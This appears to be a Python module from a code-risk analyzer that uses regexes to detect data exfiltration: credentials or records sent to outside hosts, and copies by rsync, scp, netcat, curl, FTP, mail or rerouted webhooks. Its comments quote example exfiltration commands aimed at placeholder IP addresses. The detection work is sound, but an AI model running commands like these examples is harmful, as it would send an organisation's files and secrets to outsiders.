"""Data gathered on this machine or from the organisation's own services and sent to another organisation, shared by
both analyzers and judged on the whole text.

Two shapes:

* *Credentials gathered.* What gives it away is where the secret words sit. Code that *uses* a credential names it
  where it logs in: an environment lookup, an ``Authorization`` header, an OAuth exchange, a token file kept with
  tight permissions. Code that *collects* credentials names them as data: a regex for ``<ApiKey>``, a set of field
  names with ``password`` and ``passkey`` in it, a ``grep`` for announce passkeys, a container's ``Env``. Sent to a
  host that belongs to nobody else the text talks to, they have left. A secret handed back to its own issuer
  (revoking a leaked token) stays where it was.
* *Records listed.* Rows, positions, visits or files a loop, a page walk or a query collects from the organisation's
  own service or disk, sent to a host named for collecting (`collect.…`, `hooks.…`, `…-sync.…`) or to a bare
  outside address. A report posted to the team's chat, or to the service the data came from, is not this.
* *Copied to a bare address.* Files, rows or settings of this machine streamed or copied to a bare outside IPv4
  address (rsync or scp to `user@203.0.113.19:`, a tar piped into `ssh`, netcat, a socket's `sendall`): nobody keeps
  an organisation's copy at an address no name stands for.
* *Uploaded over FTP.* Files put on an FTP server that is neither internal nor of a domain the text otherwise
  names (`ftplib.FTP("ftp.filedrop.example.net")` with `storbinary`, `curl -T … ftp://…`, `lftp … mirror -R`): FTP
  sends in clear, and an organisation's own exchange names its own host.
* *Mailed away.* The same records, credentials or settings mailed to an address of another organisation than the
  sender's (or, with no sender named, than the mail relay's), or to a personal mailbox. One invoice mailed to its
  customer is not collected data.
* *Traffic routed away.* A service's outbound setting (a proxy, a relay, an upstream, its SMTP host, a sync target,
  a redirect) set to a bare outside address or to another organisation's collecting host: everything the service
  sends from then on, logins included, passes there.
* *A hook pointed away.* A webhook, notification or callback whose address (a value in a request's body, a row, a
  keyword argument) is such a collecting host of another organisation: every event the service has from then on is
  sent there, long after the script ran.
"""

from __future__ import annotations

import itertools
import re

from sandlot.risk.destinations import (
    chat_service_host,
    collector_host,
    internal_host,
    outside_address,
    registered_domain,
)
from sandlot.risk.mail import personal_mailbox
from sandlot.risk.text_shapes import destination_hosts, url_hosts

#: A word naming a credential when it is data (`Env`, spelled so, is a container's environment, not an `.env` file).
_SECRET_WORD = re.compile(
    r"passkey|passw(?:or)?d|api_?key|secret|cookie|credential|token|(?-i:\bEnv\b)|passphrase|private[_-]key",
    re.IGNORECASE,
)
#: A line where a credential is only used or kept: looked up in the environment or a keyring, sent in a login
#: header, an OAuth exchange or an API's own address, written to a token file, rotated or printed.
_USED_NOT_GATHERED = re.compile(
    r"environ|getenv|Authorization|Bearer|headers?\s*=|\s-H\s|X-Api-Key|\bauth\b|--user\b|\s-u\s|oauth"
    r"|client_(?:secret|id)|grant_type|access_token|refresh|\$\{?\w*(?:TOKEN|KEY|SECRET|PASS)|getpass|keyring"
    r"|def |import |login|sign|hmac|digest|verif|0o?600|session|\bpass\s+show|vault\s+(?:kv|read)"
    r"|secret(?:s|Ref|KeyRef)?:|token(?:\.json|_file|_urlsafe|_hex)|TOKEN_FILE|[-_/.]token\b|rotat|print\(|\becho\s"
    r"|://[^\s\"']*\{\w*(?:token|key|secret)\w*\}",  # (a bot's own address: `…/bot{token}/sendMessage`)
    re.IGNORECASE,
)
#: Data read on this side: a file opened or read, a database or a query's rows, the container engine, a jq filter, a
#: system, data or home folder named.
_LOCAL_DATA = re.compile(
    r"\bopen\(|read_text|read_bytes|\bcat\s|sqlite3|\bpsql\b|\bmysql\b|\b(?:mysql|pg_)dump(?:all)?\b|SELECT\s|\.fetchall"
    r"|docker|\.find\(|Path\(|\bldapsearch\b"
    # (a folder of this machine, spelled or a variable's default: `${KOLIBRI_HOME:-/var/lib/kolibri}`)
    r"|\bjq\b|\.db\b|(?:[\s\"'=]|:-)(?:~)?/(?:var|etc|srv|home|root|opt|data|mnt|config)/"
    # (or an application's data in a home: `${LS_DIR:-$HOME/.local/share/label-studio}`)
    r"|(?:~|\$\{?HOME\}?)/\.(?:local/share|config)/",
    re.IGNORECASE,
)
#: An API client's listing walked page by page (`stripe.Charge.list(…).auto_paging_iter()`).
_CLIENT_LISTING = re.compile(r"\.list\([^)\n]*\)\s*\.auto_paging_iter\(|\.list_all\(|\.iter_all\("
                             r"|\.get_(?:tasks|projects|users|models|datasets|parameters)\(")  # (an SDK's own getters)
#: Records collected: a loop, a page walk, a query, a list grown item by item, a jq filter over a listing, an API's
#: bulk export (`/api/v1/chats/all/db`, `/export`).
_COLLECTED = re.compile(
    r"\bfor\s+\w+(?:\s*,\s*\w+)*\s+in\b|\bwhile\s+read\b|\bpage\b|SELECT\s|\.extend\(|\+=|\.append\(|\bjq\b"
    r"|/(?:all|export|dump)(?:[-_]\w+)?(?:/|[\"'?]|$)"  # (`/system/export-chats`: every chat, exported)
    # (every message of a stream, handed on as it arrives: `WebSocketApp(SRC, on_message=fwd).run_forever()`)
    r"|\bon_message\s*=",
    re.IGNORECASE | re.MULTILINE,
)


def secrets_sent_away(code: str) -> str | None:
    """The host of another organisation ``code`` sends credentials it gathered to, if any."""
    if "revoke" in code:
        return None  # (leaked tokens handed back to their issuers)
    away = [host for host in destination_hosts(code) if _belongs_elsewhere(host, code)]
    if not away:
        return None
    # (read from another host than the one sent to, or from this machine)
    local = _LOCAL_DATA.search(code) is not None or _CLIENT_LISTING.search(code) is not None
    domains = {registered_domain(h) for h in url_hosts(code)}
    sent_to = next((h for h in away if local or domains - {registered_domain(h)}), None)
    if sent_to is None:
        return None
    gathered = any(_SECRET_WORD.search(line) and not _USED_NOT_GATHERED.search(line) for line in code.splitlines())
    return sent_to if gathered else None


def records_sent_away(code: str) -> str | None:
    """The collecting host ``code`` sends records it collected from the organisation's own service or disk to."""
    away = [host for host in destination_hosts(code) if collector_host(host)]
    if not away or not (_COLLECTED.search(code) or _SETTINGS_FILE.search(code)):
        return None  # (records a loop or a query collects, or an application's settings file read whole)
    dropped = {registered_domain(h) for h in away}
    if any(registered_domain(h) not in dropped for h in url_hosts(code)) or _LOCAL_DATA.search(code):
        return away[0]
    if _CLIENT_LISTING.search(code):
        return away[0]  # (records an API client lists: `stripe.Charge.list(…).auto_paging_iter()`)
    return None


def copied_to_address(code: str) -> str | None:
    """The bare outside address ``code`` copies or streams this machine's files, rows or settings to."""
    if not _COPIES_OR_STREAMS.search(code) or not _LOCAL_DATA.search(code):
        return None
    for match in _BARE_DESTINATION.finditer(code):
        address = next(g for g in match.groups() if g)
        if outside_address(address):
            return address
    return None


_IPV4 = r"(\d{1,3}(?:\.\d{1,3}){3})"
_CURL_BODY = r"(?:-d|--data[\w-]*|-F|--form|-T|--upload-file)"
#: Where a copy or a stream goes when it is an address: rsync's or scp's `user@ADDRESS:`, `| ssh [user@]ADDRESS`,
#: `| nc ADDRESS`, a Python socket connected to `("ADDRESS", port)`.
_BARE_DESTINATION = re.compile(
    rf"\b(?:rsync|scp|sftp)\b[^\n]*?(?:\\\n[^\n]*?)*\s[\w.-]+@{_IPV4}:"
    rf"|\|\s*ssh\b[^\n]*?(?:\\\n[^\n]*?)*\s(?:[\w.-]+@)?{_IPV4}\b"
    rf"|\|\s*(?:nc|ncat|netcat)\b[^\n|]*?\b{_IPV4}\b"
    # (a file fed to netcat: `nc -w 5 203.0.113.120 9000 < /tmp/.wc.sql`)
    rf"|\b(?:nc|ncat|netcat)\b[^\n|<]*?\b{_IPV4}\b[^\n|<]*<\s*\S"
    rf"|(?:create_connection|\.connect)\(\s*\(\s*[\"']{_IPV4}[\"']"
    # (a body curl posts or uploads to an address: `curl "https://198.51.100.23/api/cfg" -d "…${cfg}…"`)
    rf"|\bcurl\b(?:[^\n]|\\\n)*?\s{_CURL_BODY}\s(?:[^\n]|\\\n)*?https?://{_IPV4}\b"
    rf"|\bcurl\b(?:[^\n]|\\\n)*?https?://{_IPV4}\b(?:[^\n]|\\\n)*?\s{_CURL_BODY}\s"
)
#: (The lookahead, the letters every branch begins with, lets the regex engine skip ahead: see text_shapes._SENDS.)
_COPIES_OR_STREAMS = re.compile(r"(?=[s.r|nc])(?:sendall|\.send\(|\brsync\b|\bscp\b|\bsftp\b|\|\s*ssh\b"
                                r"|\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^\n|<]*<\s*\S"
                                r"|\bcurl\b(?:[^\n]|\\\n)*?\s(?:-d|--data[\w-]*|-F|--form|-T|--upload-file)\s)")


def ftp_upload_away(code: str) -> str | None:
    """The FTP server outside the organisation ``code`` uploads files to."""
    if not _FTP_UPLOAD.search(code) or not _DATA_UPLOADED.search(code):
        return None  # (a site's built files mirrored to its host is a deployment)
    named = {registered_domain(h) for h in url_hosts(code) if not h.lower().startswith("ftp")}
    for match in _FTP_SERVER.finditer(code):
        host = next(g for g in match.groups() if g)
        if "." in host and not internal_host(host) and registered_domain(host) not in named:
            return host
    return None


#: An FTP server spelled: ftplib's `FTP("host")`, an `ftp://` address, lftp's or ncftpput's host, an `ftp.` host.
_FTP_SERVER = re.compile(
    r"\bFTP(?:_TLS)?\(\s*[\"']([\w.-]+)[\"']|\bftps?://(?:[^@/\s\"']+@)?([\w.-]+)"
    # (a host named for its FTP service, kept in a setting: `REMOTE = ("ftp.claimsmirror.net", …)`)
    r"|[\"'](ftps?\.[\w-]+(?:\.[\w-]+)*\.[a-z]{2,})[\"']"
    r"|\b(?:lftp|ncftpput)\b[^\n]*?\s(?:-u\s+\S+\s+)?(?:ftps?://)?([\w.-]+\.[a-z]{2,})\b"
)
#: What an upload carries when it is data: a system or data folder, a home, a dump, an export, a backup, an archive,
#: a database or a log.
_DATA_UPLOADED = re.compile(
    r"[\s\"'(=]/(?:var|srv|home|etc|data|mnt|opt|root|config)/|~/|\$HOME|dump|export|backup|\.csv|\.sql|\.zip"
    r"|\.tar|\.tgz|\.gz|\.db\b|\.sqlite|log",
    re.IGNORECASE,
)
_FTP_UPLOAD = re.compile(r"storbinary|storlines|\s-T\s|--upload-file|\bput\s|mirror\s+-R|ncftpput")


def mailed_away(code: str) -> str | None:
    """The address of another organisation ``code`` mails the records, credentials or settings it gathered to."""
    if not _SENDS_MAIL.search(code):
        return None
    # (a relay on this machine or the internal network says nothing of whose mail it is)
    senders = {registered_domain(next(g for g in m.groups() if g)) for m in _SENDER_DOMAIN.finditer(code)} or {
        registered_domain(h) for h in _MAIL_RELAY.findall(code) if not internal_host(h)
    }
    for recipients in _RECIPIENTS.finditer(code):
        for address in re.split(r"[,;\s]+", next(g for g in recipients.groups() if g)):
            domain = address.partition("@")[2].strip(">").lower()
            if not domain or internal_host(domain):
                continue
            elsewhere = registered_domain(domain) not in senders if senders else personal_mailbox(address)
            if elsewhere and _mails_gathered_data(code):
                return address
    return None


#: A data file of the machine's attached to a message (`add_attachment(Path("/srv/…/export.csv").read_bytes(), …)`, an
#: export, a dump or a database file by its path).
_DATA_FILE = r"[\"'](?:/|~/)[^\"'\s]+\.(?:csv|xlsx?|sql|db|sqlite3?|dump|jsonl)[\"']"
_DATA_FILE_ATTACHED = re.compile(
    # (or what it collected, dumped as JSON into the attachment: `add_attachment(json.dumps({"contacts": …}).encode()`)
    r"(?:add_attachment|MIMEApplication)\(\s*json\.dumps\("
    rf"|(?:add_attachment|\.attach|MIMEApplication)\([\s\S]{{0,400}}?{_DATA_FILE}"
    rf"|{_DATA_FILE}[\s\S]{{0,600}}?(?:add_attachment|\.attach|MIMEApplication)\("
)


def _mails_gathered_data(code: str) -> bool:
    """What ``code`` mails is data it gathered: records a loop or a query collects, a settings file or archive, a
    whole database file, or credentials named as data (not the mail relay's own login)."""
    return (
        _COLLECTED.search(code) is not None
        or (("attach" in code or "MIMEApplication" in code) and _DATA_FILE_ATTACHED.search(code) is not None)
        or _SETTINGS_READ.search(code) is not None
        or _SETTINGS_FILE.search(code) is not None
        or _DATABASE_NAMED.search(code) is not None
        or any(
            _SECRET_WORD.search(line) and not _USED_NOT_GATHERED.search(line) and not _MAIL_LOGIN.search(line)
            for line in code.splitlines()
        )
    )


_SENDS_MAIL = re.compile(
    r"\bsmtplib\b|\bsend_message\(|\bsendmail\b|\bmail\s+(?:-\w+\s+(?:\"[^\"]*\"|'[^']*'|\S+)\s+)*-s\b|\bmailx\b"
    r"|\bmutt\b|\bswaks\b"
)
#: Where a message goes: its `To` header (or a copy's, `Cc`, `Bcc`), `to_addrs`, sendmail's recipients, the address
#: a mail command ends with.
_RECIPIENTS = re.compile(
    r"[\"'](?:To|Cc|Bcc)[\"']\]\s*=\s*[\"']([^\"']+)[\"']|\bTo:\s*<?([\w.+-]+@[\w-]+(?:\.[\w-]+)+)"
    r"|\bto_addrs?\s*=\s*\[?[\"']([^\"']+)[\"']|\bsendmail\(\s*[^,]+,\s*\[?[\"']([^\"']+)[\"']"
    r"|\b(?:mail|mailx|mutt)\b[^\n]*?\s([\w.+-]+@[\w-]+(?:\.[\w-]+)+)\s*$"
    # (the headers set in one tuple assignment: `msg["From"], msg["To"] = "a@x.com", "b@y.net"`)
    r"|[\"']From[\"']\]\s*,\s*\w+\[[\"']To[\"']\][^=\n]*=\s*[\"'][^\"']+[\"']\s*,\s*[\"']([^\"']+)[\"']",
    re.MULTILINE,
)
#: Whose mail it is: the `From` header's domain, `mail -r`'s, `from_addr`'s; else the relay it is handed to.
_SENDER_DOMAIN = re.compile(
    r"[\"']From[\"']\][^\n]*?[\w.+-]+@([\w-]+(?:\.[\w-]+)+)|\bFrom:\s*<?[\w.+-]+@([\w.-]+)|\s-r\s+[\"']?[\w.+-]+@([\w.-]+)"
    r"|from_addr\s*=\s*[\"'][^\"'@]*@([\w.-]+)"
)
_MAIL_RELAY = re.compile(r"SMTP(?:_SSL)?\(\s*[\"']([\w.-]+)[\"']")
_MAIL_LOGIN = re.compile(r"SMTP|login|starttls")
#: An archive of settings, a password file or every row read to be sent (`tar … /etc/…`, `htpasswd`, `fetchall()`)...
_SETTINGS_READ = re.compile(r"\btar\b[^\n]*\s/etc/|htpasswd|\.fetchall\(", re.IGNORECASE)
#: ...or a whole database file (`shiori.db` read and attached)...
_DATABASE_NAMED = re.compile(r"[\w-]+\.(?:db|sqlite3?|sql(?:\.gz)?|dump)[\"']")
#: ...or an application's settings file (its keys, secrets and mail logins with it).
_SETTINGS_FILE = re.compile(r"configparser|\.ini\b|/\.env\b"
                            r"|/(?:settings|config|configuration|database)(?:\.inc)?\.(?:ya?ml|json|php|toml)\b",
                            re.IGNORECASE)


def outbound_setting_away(code: str) -> str | None:
    """The outside address or collecting host ``code`` sets a service's proxy, relay, upstream or mail host to."""
    hosts = url_hosts(code)
    relays = _RELAY_HOST.finditer(code) if "next-hop" in code else iter(())
    for match in itertools.chain(_OUTBOUND_SETTING.finditer(code), relays):
        host = match.group("host").lower()
        if internal_host(host):
            continue
        if re.fullmatch(r"[\d.]+", host):
            if outside_address(host):
                return host
            continue
        if not re.search(r"\.[a-z]{2,6}$", host) or not collector_host(host):
            continue
        if registered_domain(host) not in {registered_domain(h) for h in hosts if h.lower() != host}:
            return host
    return None


#: A mail server's relay host, named for a next hop (Stalwart's `remote.<name>.address`, set with add-config or its
#: settings API's `["address", "203.0.113.45"]` under `remote.<name>`), with `queue.outbound.next-hop` pointed at it.
_RELAY_HOST = re.compile(r"\bremote\.[\w-]+(?:\.address[\"',\s=]+|[\"'],[\s\S]{0,120}?[\"']address[\"']\s*,\s*)[\"']?"
                         r"(?P<host>[\w.-]+\.[\w.-]+)")
#: A setting that decides where a service's traffic goes, and the host it is given.
_OUTBOUND_SETTING = re.compile(
    r"[\"']?\b\w*(?:proxy|relay|upstream|smtp|mail_?host|mail_?server|sync_?target|forward_?to|redirect)\w*[\"']?"
    r"\s*(?:[:=]|=>|,)\s*f?[\"']?(?:(?:https?|smtps?|socks5h?)://)?(?:[^@\s\"'/]+@)?(?P<host>[\w.-]+\.[\w.-]+)",
    re.IGNORECASE,
)


def hook_pointed_away(code: str) -> str | None:
    """The collecting host of another organisation ``code`` registers as a webhook's or a notification's address."""
    if not _HOOK_WORDS.search(code) or not _REGISTERS.search(code) or _TEST_DOUBLE.search(code):
        return None
    hosts = url_hosts(code)
    if any(h.lower().startswith("api.") and not internal_host(h) for h in hosts):
        return None  # (a SaaS's API told where to deliver its events: to the organisation's own endpoint)
    for host in hosts:
        if not collector_host(host) or ".corp." in host:
            continue
        if registered_domain(host) in {registered_domain(h) for h in hosts if h != host}:
            continue
        # (the address as a value: a body's key, a keyword argument after the first one (`modify(ep.id, url=…)`), a
        # row's column, in a shell's escaped JSON too: `\"address\":\"https://…`; not the URL a request goes to)
        # (or a form field's, `--data-urlencode "url=https://…"`)
        spelled = re.escape(host)
        if re.search(r"(?:[\"']\w*\\?[\"']\s*:|\b\w+:|,|,\s*\w+\s*=)\s*f?\\?[\"']https?://" + spelled, code) or (
            re.search(r"[\"'\s]\w*(?:url|uri|address|endpoint)=https?://" + spelled, code, re.IGNORECASE)
        ):
            return host
    return None


_HOOK_WORDS = re.compile(r"webhook|target_url|callback_url|notification|\bhooks?\b", re.IGNORECASE)
_REGISTERS = re.compile(
    r"\.post\(|\.put\(|\.patch\(|INSERT\s|create|\bcurl\b[^\n]*(?:-d|--data|-X\s*(?:POST|PUT|PATCH))|update|modify|add",
    re.IGNORECASE,
)
_TEST_DOUBLE = re.compile(r"\bmock\b|unittest|pytest|responses\.add", re.IGNORECASE)


def _belongs_elsewhere(host: str, code: str) -> bool:
    """``host`` is not the organisation's: another organisation than every other host ``code`` names, or, when it is
    the only one, a chat service or a collecting host."""
    if internal_host(host):
        return False
    others = {registered_domain(h) for h in url_hosts(code) if h != host}
    if others:
        return registered_domain(host) not in others
    return chat_service_host(host) or collector_host(host) or outside_address(host)
